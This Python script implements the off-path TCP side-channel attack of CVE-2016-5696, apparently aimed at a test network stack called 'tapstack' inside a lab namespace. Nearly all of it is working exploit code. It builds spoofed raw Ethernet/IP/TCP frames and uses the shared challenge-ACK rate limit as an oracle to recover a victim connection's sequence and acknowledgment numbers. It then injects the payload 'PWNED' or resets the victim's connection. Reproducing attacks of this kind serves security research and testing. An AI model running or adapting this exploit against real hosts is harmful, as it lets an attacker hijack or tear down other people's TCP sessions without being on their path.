#!/usr/bin/python3
"""An off-path attacker on a bridge port: the side channel of CVE-2016-5696.

Cao et al., "Off-Path TCP Exploits: Global Rate Limit Considered Dangerous"
(USENIX Security 2016): when a host caps its RFC 5961 challenge ACKs with one
counter per second for all connections, an attacker that cannot see a
victim's connection sends spoofed segments for it and then, in the same
second, enough in-window RSTs on a connection of its own to use up the cap.
Each spoofed segment that made the host send a challenge ACK to the victim
costs the attacker one challenge ACK on its own connection: the count it
receives says how many of its guesses hit. With the count as an oracle it
finds the victim's sequence and acknowledgment numbers and then resets the
connection or injects data into it.

This script runs in the attacker's network namespace as root (raw AF_PACKET
sockets; scapy builds the frame templates, which are then patched per
probe so that thousands go out per second). It prints one JSON object per
line on stdout. Modes:

  sidechannel  measure the leak directly: ROUNDS pairs of seconds, one
               without and one with SPOOF spoofed in-window RSTs for the
               victim (whose next sequence number the test gives), and the
               challenge ACKs the attacker's own connection got in each.
  attack       the end-to-end attack for BUDGET seconds against the victims
               given as IP:PORT:ACTION (ACTION inject or reset), knowing only
               their address pairs.

How the oracle is used against tapstack (its segment processing, RFC 9293
section 3.10.7.4 and RFC 5961): a pure ACK whose sequence number lies in
[RCV.NXT - 2^31, RCV.NXT + RCV.WND) (old, or in the window) reaches the ACK
test, where an acknowledgment number in the 2^31-long arc that ends at
SND.UNA - MAX.SND.WND draws a challenge ACK; other pure ACKs draw a plain
duplicate ACK, which is not counted. Both sets are arcs of about half the
number circle, so:

  1. one second with a 3x3 grid of (seq, ack) probes, probe (i, j) sent
     2^(3i+j) times, decodes (from the count) which grid points lie in
     which arc;
  2. seconds of 900 evenly spaced probes across the grid interval where the
     sequence arc starts find its start L exactly (1.4e9 -> 1.6e6 -> 1.8e3 ->
     2 -> 1): RCV.NXT = L + 2^31;
  3. two more seconds find the end of the acknowledgment arc to within
     2 KiB, which gives an acknowledgment number the host accepts;
  4. then a data segment "PWNED" at RCV.NXT, or a RST at RCV.NXT, and one
     more second to check that the oracle saw the effect (the start of the
     arc moved by 5, or the connection is gone).

Every wait is bounded by the budget; the script never sniffs the victims'
traffic (it only reads frames addressed to its own connection).
"""

import argparse
import json
import logging
import math
import os
import socket
import struct
import sys
import time

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.compat import raw  # noqa: E402
from scapy.layers.inet import IP, TCP  # noqa: E402
from scapy.layers.l2 import Ether  # noqa: E402

ETH_P_IP = 0x0800
SOL_PACKET = 263
PACKET_IGNORE_OUTGOING = 23
SO_RCVBUFFORCE = 33
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
MOD = 1 << 32
HALF = 1 << 31

# Probes per second go out at most this fast, so that the TAP's queue
# (1000 frames) is not overrun while tapstack reads it.
RATE = 30000.0
# In-window RSTs the attacker sends on its own connection each second: more
# than the cap it measured, so the cap, not this number, limits the count.
OWN_RSTS = 1200
# A round's probes and RSTs go out from this far into a wall-clock second,
# and its challenge ACKs are counted until COLLECT_END into it.
SEND_AT, COLLECT_END = 0.02, 0.80


def emit(**kv):
    kv["t"] = round(time.monotonic() - T0, 2)
    print(json.dumps(kv), flush=True)


def log(msg):
    print(f"offpath: {time.monotonic() - T0:6.2f}s {msg}", file=sys.stderr, flush=True)


def mac_of(iface):
    with open(f"/sys/class/net/{iface}/address") as f:
        return f.read().strip()


class Flow:
    """Ethernet + IPv4 + TCP headers of one direction of a 4-tuple, built once
    with scapy; frame() patches seq, ack and flags and the TCP checksum, so a
    probe costs a few microseconds."""

    def __init__(self, src_mac, dst_mac, src, dst, sport, dport, window=65535):
        self.args = (src_mac, dst_mac, src, dst, sport, dport, window)
        tmpl = raw(Ether(src=src_mac, dst=dst_mac) /
                   IP(src=src, dst=dst, id=0, flags="DF", ttl=64) /
                   TCP(sport=sport, dport=dport, flags="A", seq=0, ack=0, window=window))
        assert len(tmpl) == 54
        self.tmpl = bytearray(tmpl)
        self.tmpl[50:52] = b"\0\0"
        s = 0
        for a in (src, dst):
            b = socket.inet_aton(a)
            s += (b[0] << 8 | b[1]) + (b[2] << 8 | b[3])
        self.base = s + 6 + 20 + sport + dport + window  # pseudo header, constant words

    def frame(self, seq, ack, flags):
        seq %= MOD
        ack %= MOD
        f = bytearray(self.tmpl)
        struct.pack_into("!IIH", f, 38, seq, ack, 0x5000 | flags)
        s = self.base + (seq >> 16) + (seq & 0xFFFF) + (ack >> 16) + (ack & 0xFFFF) + (0x5000 | flags)
        while s >> 16:
            s = (s & 0xFFFF) + (s >> 16)
        struct.pack_into("!H", f, 50, ~s & 0xFFFF)
        return bytes(f)

    def data(self, seq, ack, payload):
        src_mac, dst_mac, src, dst, sport, dport, window = self.args
        return raw(Ether(src=src_mac, dst=dst_mac) /
                   IP(src=src, dst=dst, flags="DF", ttl=64) /
                   TCP(sport=sport, dport=dport, flags="PA", seq=seq % MOD, ack=ack % MOD, window=window) /
                   payload)


class Attacker:
    def __init__(self, a):
        self.a = a
        self.server = a.server
        self.server_b = socket.inet_aton(a.server)
        self.mac = mac_of(a.iface)
        self.tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.tx.bind((a.iface, 0))
        self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
        self.rx.bind((a.iface, ETH_P_IP))
        self.rx.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
        self.rx.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 16 << 20)
        self.own = None
        self.snd_nxt = None
        self.own_rsts = 0  # RSTs sent on the own connection, in all
        self.probes = 0  # spoofed segments sent for victims, in all

    # --- the attacker's own, legitimate connection ---------------------------

    def connect(self):
        if self.own is not None:
            self.own.close()
        self.own = socket.create_connection((self.server, self.a.port), timeout=5)
        ip, self.lport = self.own.getsockname()
        self.flow = Flow(self.mac, self.a.server_mac, ip, self.server, self.lport, self.a.port)
        self.lport_b = struct.pack("!H", self.lport)
        self.sport_b = struct.pack("!H", self.a.port)

    def frames_to_me(self):
        """Reads what is queued on the raw socket; yields (seq, ack, flags,
        payload length) of the segments of the own connection."""
        while True:
            try:
                f = self.rx.recv(2048, socket.MSG_DONTWAIT)
            except BlockingIOError:
                return
            seg = self.parse(f)
            if seg is not None:
                yield seg

    def parse(self, f):
        if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6 or f[26:30] != self.server_b:
            return None
        ihl = (f[14] & 15) * 4
        t = 14 + ihl
        if f[t:t + 2] != self.sport_b or f[t + 2:t + 4] != self.lport_b:
            return None
        seq, ack = struct.unpack_from("!II", f, t + 4)
        plen = struct.unpack_from("!H", f, 16)[0] - ihl - (f[t + 12] >> 4) * 4
        return seq, ack, f[t + 13], plen

    def sync(self):
        """Sends one byte on the own connection (which also keeps it from
        being idle) and learns SND.NXT from the host's echo of it."""
        for _ in range(2):
            try:
                if self.own is None:
                    self.connect()
                for _ in self.frames_to_me():
                    pass
                self.own.sendall(b"k")
                if self.own.recv(16) == b"":
                    raise OSError("own connection closed")
                end = time.monotonic() + 3
                while time.monotonic() < end:
                    for seq, ack, flags, plen in self.frames_to_me():
                        if plen > 0:
                            self.snd_nxt = ack
                            return
                    time.sleep(0.005)
                raise OSError("did not see the echo of the own connection")
            except OSError as e:
                log(f"own connection: {e}; reconnecting")
                self.own = None
        raise SystemExit("offpath: cannot keep a connection to the host")

    # --- one measurement ------------------------------------------------------

    def send(self, frames, t0):
        for i, f in enumerate(frames):
            while True:
                try:
                    self.tx.send(f)
                    break
                except OSError:  # ENOBUFS: the device queue is full
                    time.sleep(0.0005)
            if i % 64 == 63:
                ahead = t0 + (i + 1) / RATE - time.time()
                if ahead > 0:
                    time.sleep(ahead)

    def measure(self, probes):
        """One wall-clock second: the probes, then OWN_RSTS in-window RSTs on
        the own connection; returns the challenge ACKs the own connection got.
        A second in which sending took too long (this process was not
        scheduled: the machine is shared) is measured again, three times
        at most."""
        for _ in range(3):
            n, took = self.measure_once(probes)
            if took < 0.3:
                break
        return n

    def measure_once(self, probes):
        now = time.time()
        start = math.floor(now) + 1 + SEND_AT
        time.sleep(start - now)
        for _ in self.frames_to_me():
            pass
        rst = self.flow.frame(self.snd_nxt + 1, 0, RST)  # in the window, not RCV.NXT
        self.send(probes + [rst] * OWN_RSTS, start)
        self.own_rsts += OWN_RSTS
        self.probes += len(probes)
        sent = time.time()
        end = math.floor(start) + COLLECT_END
        n, last = 0, 0.0
        while True:
            left = end - time.time()
            if left <= 0:
                break
            self.rx.settimeout(left)
            try:
                f = self.rx.recv(2048)
            except (socket.timeout, BlockingIOError):
                break
            seg = self.parse(f)
            if seg is not None and seg[2] & 0x3F == ACK and seg[3] == 0 and seg[1] == self.snd_nxt % MOD:
                n += 1
                last = time.time()
        self.rx.settimeout(None)
        if self.a.verbose:
            log(f"round: {len(probes)} probes + {OWN_RSTS} RSTs sent in {sent - start:.3f}s, "
                f"{n} challenge ACKs, the last at +{(last - start) if n else 0:.3f}s")
        return n, sent - start


def sidechannel(at, a):
    vip, vport = a.victim.rsplit(":", 1)
    victim = Flow(at.mac, a.server_mac, vip, a.server, int(vport), a.port)
    at.sync()
    spoofed = [victim.frame(a.victim_seq + 1 + k, 0, RST) for k in range(a.spoof)]
    for r in range(a.rounds):
        u = at.measure([])
        s = at.measure(spoofed)
        emit(event="round", round=r, unspoofed=u, spoofed=s, spoof=a.spoof)
    emit(event="end", own_rsts=at.own_rsts, probes=at.probes)


class Inconsistent(Exception):
    pass


def third(i):
    return (i % 3) * MOD // 3


class Target:
    def __init__(self, at, spec):
        ip, port, self.action = spec.split(":")
        if self.action not in ("inject", "reset"):
            raise SystemExit(f"offpath: bad action {self.action!r}")
        self.name = f"{ip}:{port}"
        self.flow = Flow(at.mac, at.a.server_mac, ip, at.server, int(port), at.a.port)


def attempt(at, tgt, deadline):
    """One try of the whole inference against one target; returns True when
    the oracle confirms the effect of the action."""
    def oracle(probes):
        if time.time() + 1.5 > deadline:
            raise TimeoutError
        return max(baseline - at.measure(probes), 0)

    if time.time() + 4 > deadline:
        raise TimeoutError
    at.sync()
    baseline = at.measure([])
    emit(event="calibrated", target=tgt.name, challenge_acks=baseline)
    # With a small count (a per-connection limit) the oracle says little,
    # but the attacker goes on anyway: every step still sends its probes
    # (and its guesses) to the victim, only the checks of step 4 need room.
    probe = lambda seq, ack: tgt.flow.frame(seq, ack, ACK)  # noqa: E731

    # 1. The grid.
    grid = []
    for i in range(3):
        for j in range(3):
            grid += [probe(third(i), third(j))] * (1 << (3 * i + j))
    m = oracle(grid)
    rows = [any(m >> (3 * i + j) & 1 for j in range(3)) for i in range(3)]
    cols = [any(m >> (3 * i + j) & 1 for i in range(3)) for j in range(3)]
    want = sum(1 << (3 * i + j) for i in range(3) for j in range(3) if rows[i] and cols[j])
    if m != want or all(rows) or not any(rows) or all(cols) or not any(cols):
        raise Inconsistent(f"grid count {m} is no pattern of two arcs")
    i = next(i for i in range(3) if rows[i] and not rows[i - 1])  # the seq arc starts in (third(i-1), third(i)]
    j = next(j for j in range(3) if cols[j] and not cols[(j + 1) % 3])  # the ack arc ends in (third(j), third(j+1)]
    a_hit, s_hit = third(j), third(i)
    emit(event="grid", target=tgt.name, count=m)

    # 2. The start L of the sequence arc: RCV.NXT - 2^31.
    lo, span = third(i - 1), (third(i) - third(i - 1)) % MOD
    while span > 1:
        n = min(900, span)
        step = -(-span // n)
        m = oracle([probe(lo + k * step, a_hit) for k in range(1, n + 1)])
        if not 1 <= m <= n:
            raise Inconsistent(f"sequence search: {m} of {n} probes hit")
        lo, span = (lo + (n - m) * step) % MOD, step
    rcv_nxt = (lo + 1 + HALF) % MOD
    emit(event="seq", target=tgt.name, rcv_nxt=rcv_nxt)

    # 3. The end Y of the acknowledgment arc: SND.UNA - MAX.SND.WND.
    lo, span = a_hit, MOD // 3 + 1
    while span > 2048:
        n = min(900, span)
        step = -(-span // n)
        m = oracle([probe(rcv_nxt, lo + k * step) for k in range(1, n + 1)])
        if m >= n:
            raise Inconsistent(f"acknowledgment search: {m} of {n} probes hit")
        lo, span = (lo + m * step) % MOD, step
    ack = (lo + span) % MOD  # in [Y, Y + 2 KiB): at most SND.NXT for any peer window
    emit(event="ack", target=tgt.name, ack=ack)

    # 4. The action, and the oracle's check of it.
    L = (rcv_nxt - HALF) % MOD
    if tgt.action == "inject":
        at.send([tgt.flow.data(rcv_nxt, ack, b"PWNED")], time.time())
        at.probes += 1
        emit(event="injected", target=tgt.name, seq=rcv_nxt, ack=ack)
        m = oracle([probe(L + 2, a_hit)] * 100 + [probe(L + 5, a_hit)] * 200)
        ok = baseline >= 300 and 150 <= m < 250  # L moved by 5: only the second probe still hits
    else:
        at.send([tgt.flow.frame(rcv_nxt, 0, RST)], time.time())
        at.probes += 1
        emit(event="reset_sent", target=tgt.name, seq=rcv_nxt)
        m = oracle([probe(s_hit, a_hit)] * 100)
        ok = baseline >= 300 and m < 50  # no challenge ACKs: the connection is gone
    emit(event="verified" if ok else "not_verified", target=tgt.name, action=tgt.action, count=m)
    return ok


def attack(at, a):
    deadline = time.time() + a.budget
    targets = [Target(at, spec) for spec in a.target]
    attempts = 0
    done = []
    while targets and time.time() + 3 < deadline:
        tgt = targets[0]
        attempts += 1
        try:
            if attempt(at, tgt, deadline):
                done.append(tgt.name)
                emit(event="success", target=tgt.name, action=tgt.action, attempts=attempts)
                targets.pop(0)
                continue
        except Inconsistent as e:
            emit(event="failed_attempt", target=tgt.name, why=str(e))
        except TimeoutError:
            break
        targets.append(targets.pop(0))
    emit(event="end", attempts=attempts, succeeded=done, own_rsts=at.own_rsts, probes=at.probes)


def main():
    global T0
    T0 = time.monotonic()
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("mode", choices=["sidechannel", "attack"])
    p.add_argument("--iface", required=True)
    p.add_argument("--server", required=True, help="the host's IPv4 address")
    p.add_argument("--server-mac", required=True)
    p.add_argument("--port", type=int, default=7, help="the service port (echo)")
    p.add_argument("--victim", help="sidechannel: the victim's IP:PORT")
    p.add_argument("--victim-seq", type=int, help="sidechannel: the host's RCV.NXT for the victim")
    p.add_argument("--spoof", type=int, default=500)
    p.add_argument("--rounds", type=int, default=3)
    p.add_argument("--target", action="append", default=[], help="attack: IP:PORT:inject|reset")
    p.add_argument("--budget", type=float, default=45)
    p.add_argument("--verbose", action="store_true", help="log each round on stderr")
    a = p.parse_args()
    if os.geteuid() != 0:
        raise SystemExit("offpath: needs root (raw sockets)")
    at = Attacker(a)
    if a.mode == "sidechannel":
        sidechannel(at, a)
    else:
        attack(at, a)


if __name__ == "__main__":
    main()
